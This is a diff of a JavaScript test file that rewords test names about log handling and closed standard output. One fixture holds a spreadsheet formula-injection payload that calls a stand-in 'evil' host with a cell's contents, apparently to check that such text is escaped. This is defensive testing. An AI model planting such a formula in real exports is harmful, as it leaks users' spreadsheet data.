@@ -91,7 +91,7 @@ describe('text from logs and users', () => {
     expect(ends.map(({ code }) => code)).toEqual([0, 1, 0, 0, 1, 0, 1, 1, 1, 1]);
   });
 
-  it('is a cell of a table, whatever it begins with: ids, files, prompts', async () => {
+  it('is one cell of a table, for any first character: ids, files, prompts', async () => {
     const formula = '=HYPERLINK("http://evil/?"&A1,"click")';
     const file = await log(
       '=1+1.jsonl',
@@ -127,7 +127,7 @@ describe('standard output', () => {
     return new Promise((resolve) => child.on('close', (code) => resolve({ code, stderr })));
   }
 
-  it('that nobody reads any more ends a command without a word', async () => {
+  it('that is closed ends a command silently', async () => {
     const many = await log('many.jsonl', group({ pieces: { 1: 'L'.repeat(100_000), 2: 'R' } }));
     expect(await head(['tree', many])).toEqual({ code: 0, stderr: '' });
     expect(await head(['config'])).toEqual({ code: 0, stderr: '' });
@@ -140,7 +140,7 @@ describe('standard output', () => {
     expect(await endOf(closed)).toEqual({ code: 0, stderr: '' });
   });
 
-  it('that nobody reads any more ends training after its step, with a checkpoint, as SIGPIPE would', async () => {
+  it('that is closed ends training after its step, with a checkpoint, like SIGPIPE', async () => {
     const train = ['train', recipe, '--out', 'unread', '--set', 'checkpoint.every=0', ...quick];
     const long = [...train, '--set', 'train.steps=100000'];
     expect(await head(long)).toEqual({ code: 141, stderr: '' });
